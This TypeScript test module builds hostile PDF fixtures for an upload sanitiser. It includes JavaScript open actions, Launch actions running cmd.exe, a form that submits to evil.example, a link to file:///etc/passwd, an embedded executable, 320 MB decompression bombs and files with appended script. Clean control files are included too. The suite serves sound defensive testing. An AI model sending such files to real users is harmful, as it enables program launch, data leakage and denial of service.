import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { makePdf, stream, writePdf } from '../pdfs.ts';
import { asPdf, type HostileFile, harmless, lacks } from './case.ts';
import { zipBomb } from './other-kinds.ts';

/** A file as qpdf writes it with these options. */
function rewritten(content: Buffer, ...options: string[]): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'shala-hostile-'));
  try {
    writeFileSync(join(folder, 'a.pdf'), content);
    execFileSync('qpdf', [...options, join(folder, 'a.pdf'), join(folder, 'b.pdf')]);
    return readFileSync(join(folder, 'b.pdf'));
  } finally {
    rmSync(folder, { recursive: true });
  }
}

const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const annotation = (entries: string) =>
  makePdf({ page: `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${entries} >>]` });
const action = (entries: string) => makePdf({ catalogue: `/OpenAction << ${entries} >>` });
const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });

/** PDFs that would do something when they are opened. */
function activePdfs(): HostileFile[] {
  const contents: Record<string, Buffer> = {
    'JavaScript when it is opened': makePdf({ catalogue: `/OpenAction ${js}` }),
    'JavaScript among its names': makePdf({ catalogue: `/Names << /JavaScript << /Names [(a) ${js}] >> >>` }),
    'JavaScript when a page is turned': makePdf({ page: `/AA << /O ${js} >>` }),
    'JavaScript under the mouse': annotation(`/Subtype /Link /A ${js}`),
    'JavaScript in an odd spelling': action('/S /J#61va#53cript /J#53 (app.alert\\(1\\))'),
    'JavaScript in a compressed object': rewritten(
      makePdf({ catalogue: '/OpenAction 6 0 R', more: [js] }),
      '--object-streams=generate',
    ),
    'JavaScript in a stream': makePdf({
      catalogue: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
      more: [stream('app.alert(1)')],
    }),
    'JavaScript that nothing refers to': makePdf({ more: [js] }),
    'JavaScript behind another action': action(`/S /GoTo /D [4 0 R /Fit] /Next ${js}`),
    'a page of the web when it is opened': action('/S /URI /URI (https://evil.example)'),
    'a page of the web when a page is turned': makePdf({
      page: '/AA << /O 6 0 R >>',
      more: ['<< /S /URI /URI (https://evil.example) >>'],
    }),
    'a page of the web after a jump': action(
      '/S /GoTo /D [4 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example) >>]',
    ),
    'a script in a link': annotation('/Subtype /Link /A << /S /URI /URI (java\\nscript:alert\\(1\\)) >>'),
    'a link into the machine': annotation('/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>'),
    'a program to start': action('/S /Launch /F (cmd.exe)'),
    'a program to start on Windows': action('/S /Launch /Win << /F (cmd.exe) /P (/c evil) >>'),
    'a file inside': makePdf({
      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
      more: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')],
    }),
    'a file pinned to a page': annotation('/Subtype /FileAttachment /FS << /F (a.exe) >>'),
    'a form that sends itself': action('/S /SubmitForm /F (http://evil.example)'),
    'a form that reads data': action('/S /ImportData /F (evil.fdf)'),
    'a form of the XFA kind': makePdf({
      catalogue: '/AcroForm << /XFA 6 0 R /Fields [] >>',
      more: [stream('<x/>')],
    }),
    'a jump to another file': action('/S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit]'),
    'a jump into a file inside': action('/S /GoToE /T << /R /C >> /D (x)'),
    'rich media': annotation('/Subtype /RichMedia'),
    'a film': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
    'a sound': action('/S /Sound /Sound 6 0 R'),
    'a rendition': action('/S /Rendition /OP 0'),
    'a thing in three dimensions': annotation('/Subtype /3D'),
    'a portfolio of files': makePdf({ catalogue: '/Collection << /View /D >>' }),
  };
  return Object.entries(contents).map(([title, content]) =>
    asPdf(`a PDF with ${title}`, content, 'active_content'),
  );
}

/** PDFs that are broken, locked, or far larger than they look. */
function bombsAndWrecks(): HostileFile[] {
  const good = makePdf({ pages: 3 });
  return [
    asPdf(
      'a PDF with a password',
      rewritten(good, '--encrypt', 'secret', 'secret', '256', '--'),
      'encrypted',
    ),
    asPdf(
      'a PDF locked for its readers',
      rewritten(good, '--encrypt', '', 'owner', '256', '--'),
      'encrypted',
    ),
    asPdf(
      'a PDF locked in an old way',
      rewritten(good, '--allow-weak-crypto', '--encrypt', 'a', 'b', '40', '--'),
      'encrypted',
    ),
    asPdf('a PDF of 5,000 pages', makePdf({ pages: 5_000 }), 'too_many_pages'),
    asPdf('a PDF of 101 pages', makePdf({ pages: 101 }), 'too_many_pages'),
    asPdf('a PDF without pages', makePdf({ pages: 0 }), 'broken'),
    asPdf('a PDF that is cut off', good.subarray(0, good.length / 2), 'broken'),
    asPdf('a PDF without its end', good.subarray(0, good.length - 20), 'broken'),
    asPdf(
      'a PDF without a table',
      Buffer.from(good.toString('latin1').replace('xref', 'xxxx'), 'latin1'),
      'broken',
    ),
    asPdf('a PDF of nothing but its first line', '%PDF-1.7\n', 'broken'),
    asPdf('a PDF of zeros', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_000)]), 'broken'),
    asPdf('a PDF without a root', writePdf(['<< >>'], '/Info 1 0 R'), 'broken'),
    asPdf(
      'a PDF whose pages go in a circle',
      writePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
      'broken',
    ),
    asPdf(
      'a PDF with a picture of 100 megapixels',
      makePdf({ more: [stream('x', picture(10_000, 10_000))] }),
      'too_many_pixels',
    ),
    asPdf(
      'a PDF with a page as large as a field',
      makePdf({ page: '/MediaBox [0 0 900000 900000]' }),
      'too_many_pixels',
    ),
    asPdf(
      'a PDF with a page as large as a field, said elsewhere',
      makePdf({ page: '/MediaBox 6 0 R', more: ['[0 0 7 0 R 842]', '900000'] }),
      'too_many_pixels',
    ),
    asPdf(
      'a PDF with a page whose inches are miles',
      makePdf({ page: '/UserUnit 75000' }),
      'too_many_pixels',
    ),
    asPdf(
      'a PDF with a picture whose size is said elsewhere',
      makePdf({ more: [stream('x', picture('7 0 R', '7 0 R')), '60000'] }),
      'too_many_pixels',
    ),
    asPdf(
      'a PDF with a picture without a size',
      makePdf({ more: [stream('x', picture('99 0 R', '8'))] }),
      'broken',
    ),
    ...bombs(),
    ...goodPdfs(),
  ];
}

const picture = (width: number | string, height: number | string) =>
  `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 1 /ColorSpace /DeviceGray`;

/** The content of the only page, folded. */
const folded = (content: Buffer, entries: string) =>
  makePdf({ page: '/Contents 6 0 R', more: [stream(content, entries)] });
/** A small picture of the page that few viewers show: no reader has to unfold it to show the page. */
const thumbnail = (content: Buffer, entries: string) =>
  makePdf({ page: '/Thumb 6 0 R', more: [stream(content, `${picture(64, 64)} ${entries}`)] });
const flate = '/Filter /FlateDecode';
const twice = '/Filter [/FlateDecode /FlateDecode]';

const bombs = (): HostileFile[] => [
  asPdf('a PDF whose page unfolds to 320 megabytes', folded(zeros(320), flate), 'broken'),
  asPdf('a PDF whose page was folded twice', folded(deflateSync(zeros(320)), twice), 'broken'),
  asPdf('a PDF whose thumbnail unfolds to 320 megabytes', thumbnail(zeros(320), flate), 'broken'),
];

/** Made the same way as the bad ones, with nothing bad in them: what is refused above is refused for what it is. */
function goodPdfs(): HostileFile[] {
  const text = deflateSync('BT /F1 24 Tf 72 720 Td (Sums) Tj ET');
  const link = (uri: string) => annotation(`/Subtype /Link /A << /S /URI /URI (${uri}) >>`);
  const files: Record<string, Buffer> = {
    'a folded page': folded(text, flate),
    'a page folded twice': folded(deflateSync(text), twice),
    'a folded thumbnail': thumbnail(deflateSync(Buffer.alloc(512)), flate),
    'a page of its own size': makePdf({ page: '/MediaBox [0 0 900 900]' }),
    'a page whose size is said elsewhere': makePdf({
      page: '/MediaBox 6 0 R',
      more: ['[0 0 7 0 R 842]', '595'],
    }),
    'a picture whose size is said elsewhere': makePdf({
      more: [stream('x', picture('7 0 R', '7 0 R')), '60'],
    }),
    'a link to a page of the web': link('https://example.org'),
    'a link without a scheme': link('www.example.org'),
    'a place to begin': makePdf({ catalogue: '/OpenAction [4 0 R /Fit]' }),
  };
  return Object.entries(files).map(([title, content]) =>
    harmless(asPdf(`a good PDF with ${title}`, content), (stored) => stored.subarray(0, 5).equals(start)),
  );
}
const start = Buffer.from('%PDF-');

/** PDFs that carry something beside their pages: it stays behind. */
function carriers(): HostileFile[] {
  const good = makePdf();
  const text = good.toString('latin1');
  // The catalogue is written anew behind the end: the first one, with its script, is still in the file.
  const first = makePdf({ catalogue: `/OpenAction ${js}` });
  const start = first.length;
  const newer = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n`;
  const table = `xref\n1 1\n${String(start).padStart(10, '0')} 00000 n \n`;
  const before = /startxref\n(\d+)/.exec(first.toString('latin1'))?.[1];
  const end = `trailer\n<< /Size 6 /Root 1 0 R /Prev ${before} >>\nstartxref\n${start + newer.length}\n%%EOF\n`;
  return [
    harmless(
      asPdf('a PDF with HTML behind its end', Buffer.concat([good, Buffer.from('<script>x()</script>')])),
      lacks('<script'),
    ),
    harmless(
      asPdf(
        'a PDF with HTML between its objects',
        Buffer.from(
          text.replace('xref\n0', 'xref\n0').replace(/(%%EOF\n)$/, '%<script>x()</script>\n$1'),
          'latin1',
        ),
      ),
      lacks('<script'),
    ),
    asPdf('a PDF with a ZIP behind its end', Buffer.concat([good, zipBomb()]), 'broken'),
    harmless(
      asPdf(
        'a PDF whose older revision had JavaScript',
        Buffer.concat([first, Buffer.from(newer + table + end)]),
      ),
      lacks('JavaScript'),
    ),
  ];
}

export const badPdfs = (): HostileFile[] => [...activePdfs(), ...bombsAndWrecks(), ...carriers()];
